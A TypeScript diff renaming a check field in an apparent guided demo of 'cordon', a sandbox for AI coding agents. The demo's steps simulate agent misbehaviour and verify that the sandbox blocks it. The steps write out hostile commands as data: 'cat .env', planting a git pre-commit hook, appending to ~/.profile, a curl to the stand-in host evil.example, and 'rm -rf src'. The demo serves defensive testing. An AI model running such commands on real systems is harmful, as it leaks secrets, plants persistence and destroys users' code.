@@ -22,9 +22,9 @@ interface TourStep {
   readonly title: string
   /** The words after `cordon`; null for the question, which an agent's session asks. */
   readonly words: readonly string[] | null
-  /** The expected result in words; `holds` checks it outside the sandbox. */
+  /** The expected result in words; `isTrue` checks it outside the sandbox. */
   readonly promise: string
-  readonly holds: (place: TourPlace, ran: TourRan) => boolean
+  readonly isTrue: (place: TourPlace, ran: TourRan) => boolean
 }
 
 /** A command's exit code and all output. */
@@ -63,61 +63,61 @@ export const TOUR: readonly TourStep[] = [
     title: 'An agent reads the secrets of the project',
     words: ['run', '--', 'cat', '.env'],
     promise: 'the secret was not read, and the attempt was reported',
-    holds: (_, { text }) => !text.includes(TOUR_KEY) && text.includes('.env is a secret'),
+    isTrue: (_, { text }) => !text.includes(TOUR_KEY) && text.includes('.env is a secret'),
   },
   {
     title: 'It leaves a hook that you would run later, outside',
     words: ['run', '--', 'sh', '-c', 'echo evil > .git/hooks/pre-commit'],
     promise: 'there is no hook',
-    holds: ({ project }, { code }) => code !== 0 && !existsSync(join(project, '.git/hooks/pre-commit')),
+    isTrue: ({ project }, { code }) => code !== 0 && !existsSync(join(project, '.git/hooks/pre-commit')),
   },
   {
     title: 'It writes outside of the project',
     words: ['run', '--', 'sh', '-c', 'echo evil >> ~/.profile; echo evil > ../notes/todo.txt'],
     promise: 'your files are as they were',
-    holds: ({ base, home }) => read(join(home, '.profile')) === PROFILE && read(join(base, 'notes/todo.txt')) === NOTE,
+    isTrue: ({ base, home }) => read(join(home, '.profile')) === PROFILE && read(join(base, 'notes/todo.txt')) === NOTE,
   },
   {
     title: 'It sends something to a host that is not allowed',
     words: ['run', '--', 'sh', '-c', 'curl -sS https://evil.example || getent hosts evil.example'],
     promise: 'nothing was sent, and the host was named',
-    holds: (_, { code, text }) => code !== 0 && text.includes('evil.example'),
+    isTrue: (_, { code, text }) => code !== 0 && text.includes('evil.example'),
   },
   {
     title: 'It runs the tests: no questions',
     words: ['run', '--', 'sh', 'test.sh'],
     promise: 'the tests pass',
-    holds: (_, { code, text }) => code === 0 && text.includes('ok 2 - subtracts'),
+    isTrue: (_, { code, text }) => code === 0 && text.includes('ok 2 - subtracts'),
   },
   {
     title: 'It asks you for the secret, by its file tool: you decide',
     words: null,
     promise: 'your answer was followed',
-    holds: (_, { code }) => code === 0,
+    isTrue: (_, { code }) => code === 0,
   },
   {
     title: 'It deletes your code',
     words: ['run', '--', 'rm', '-rf', 'src'],
     promise: 'the code is gone',
-    holds: ({ project }, { code }) => code === 0 && !existsSync(join(project, 'src')),
+    isTrue: ({ project }, { code }) => code === 0 && !existsSync(join(project, 'src')),
   },
   {
     title: 'You undo that',
     words: ['undo', '--last'],
     promise: 'every byte of the code is back',
-    holds: ({ project }) => read(join(project, 'src/sum.sh')) === CODE,
+    isTrue: ({ project }) => read(join(project, 'src/sum.sh')) === CODE,
   },
   {
     title: 'What happened is on record',
     words: ['audit', 'tail'],
     promise: 'every call is recorded',
-    holds: (_, { text }) => text.includes('.env') && text.includes('evil.example'),
+    isTrue: (_, { text }) => text.includes('.env') && text.includes('evil.example'),
   },
   {
     title: 'The record is intact',
     words: ['audit', 'verify'],
     promise: 'no line was changed or cut',
-    holds: (_, { code, text }) => code === 0 && /all whole|no damage found/.test(text),
+    isTrue: (_, { code, text }) => code === 0 && /all whole|no damage found/.test(text),
   },
 ]
 
@@ -165,12 +165,12 @@ function makePlace(): TourPlace {
 }
 
 async function takeStep(terminal: Terminal, place: TourPlace, step: TourStep, person: boolean): Promise<boolean> {
-  const { title, words, promise, holds } = step
+  const { title, words, promise, isTrue } = step
   terminal.out(`\n${paint(terminal, 'bold', title)}\n`)
   if (words) terminal.out(`${paint(terminal, 'dim', '$')} cordon ${typed(words)}\n`)
   const ran = words ? cordon(place, terminal, words) : await ask(place, terminal, person)
   terminal.out(indented(place, ran.text))
-  const kept = holds(place, ran)
+  const kept = isTrue(place, ran)
   terminal.out(
     `${paint(terminal, kept ? 'green' : 'red', kept ? '✓' : '✗')} ${kept ? promise : `not so: ${promise}`}\n`,
   )
